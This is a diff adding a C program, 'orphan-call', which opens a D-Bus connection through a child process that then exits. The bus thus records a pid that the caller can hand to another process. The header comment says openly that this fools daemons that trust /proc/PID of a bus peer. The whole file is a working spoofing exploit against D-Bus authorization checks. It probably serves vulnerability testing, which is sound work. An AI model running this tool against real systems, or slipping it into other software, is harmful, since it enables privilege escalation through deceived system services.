@@ -1,0 +1,122 @@
+/* SPDX-License-Identifier: LGPL-2.1-or-later */
+/*
+ * orphan-call ADDRESS DEST PATH INTERFACE METHOD [ARG...]
+ *
+ * A bus connection that outlives the process that opened it: a child
+ * connect()s the socket and exits, so the bus daemon records the child's
+ * pid (SO_PEERCRED) for a connection that this process then uses. The
+ * caller can give that pid to another process before the call is made,
+ * which is how a daemon that trusts /proc/PID of a bus peer is fooled.
+ *
+ * Prints "pid N" (the pid the bus reports) once connected, then waits for
+ * one line on stdin and calls METHOD with the arguments: each ARG is a
+ * string ("s"), except "{}", an empty a{sv}. Prints "ok" or
+ * "error NAME: MESSAGE".
+ *
+ * Exit status: 0 the call succeeded, 1 it failed, 2 usage or setup error.
+ */
+#include <errno.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <systemd/sd-bus.h>
+#include <unistd.h>
+
+static int connect_in_child(const char *path, pid_t *ret_pid)
+{
+	struct sockaddr_un sa = { .sun_family = AF_UNIX };
+	int fd, status;
+	pid_t pid = 0;
+
+	if (strlen(path) >= sizeof(sa.sun_path))
+		return -ENAMETOOLONG;
+	strcpy(sa.sun_path, path);
+
+	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	if (fd < 0)
+		return -errno;
+
+	pid = fork();
+	if (pid < 0)
+		return -errno;
+	if (pid == 0)
+		_exit(connect(fd, (struct sockaddr *) &sa, sizeof(sa)) < 0 ? 1 : 0);
+
+	if (waitpid(pid, &status, 0) < 0 || !WIFEXITED(status) || WEXITSTATUS(status) != 0) {
+		close(fd);
+		return -ECONNREFUSED;
+	}
+	*ret_pid = pid;
+	return fd;
+}
+
+int main(int argc, char *argv[])
+{
+	sd_bus_error error = SD_BUS_ERROR_NULL;
+	sd_bus_message *call = NULL, *reply = NULL;
+	sd_bus *bus = NULL;
+	char path[108], line[64];
+	pid_t pid = 0;
+	int fd, r;
+
+	if (argc < 6 || strncmp(argv[1], "unix:path=", 10) != 0) {
+		fprintf(stderr, "usage: orphan-call unix:path=SOCKET DEST PATH INTERFACE METHOD [ARG...]\n");
+		return 2;
+	}
+	/* the path alone, without ",guid=..." */
+	snprintf(path, sizeof(path), "%.*s", (int) strcspn(argv[1] + 10, ","), argv[1] + 10);
+
+	fd = connect_in_child(path, &pid);
+	if (fd < 0) {
+		fprintf(stderr, "orphan-call: cannot connect to %s: %s\n", path, strerror(-fd));
+		return 2;
+	}
+
+	r = sd_bus_new(&bus);
+	if (r >= 0)
+		r = sd_bus_set_fd(bus, fd, fd);
+	if (r >= 0)
+		r = sd_bus_set_bus_client(bus, 1);
+	if (r >= 0)
+		r = sd_bus_start(bus);
+	if (r < 0) {
+		fprintf(stderr, "orphan-call: cannot start the connection: %s\n", strerror(-r));
+		return 2;
+	}
+
+	/* Hello is done once the unique name is known: the bus has the pid now */
+	{
+		const char *unique;
+
+		r = sd_bus_get_unique_name(bus, &unique);
+		if (r < 0) {
+			fprintf(stderr, "orphan-call: no unique name: %s\n", strerror(-r));
+			return 2;
+		}
+	}
+	printf("pid %d\n", (int) pid);
+	fflush(stdout);
+
+	if (!fgets(line, sizeof(line), stdin))
+		return 2;
+
+	r = sd_bus_message_new_method_call(bus, &call, argv[2], argv[3], argv[4], argv[5]);
+	for (int i = 6; r >= 0 && i < argc; i++)
+		r = strcmp(argv[i], "{}") == 0 ? sd_bus_message_append(call, "a{sv}", 0)
+					       : sd_bus_message_append(call, "s", argv[i]);
+	if (r < 0) {
+		fprintf(stderr, "orphan-call: cannot build the call: %s\n", strerror(-r));
+		return 2;
+	}
+
+	r = sd_bus_call(bus, call, 0, &error, &reply);
+	if (r < 0) {
+		printf("error %s: %s\n", error.name ? error.name : "?", error.message ? error.message : strerror(-r));
+		return 1;
+	}
+	printf("ok\n");
+	return 0;
+}
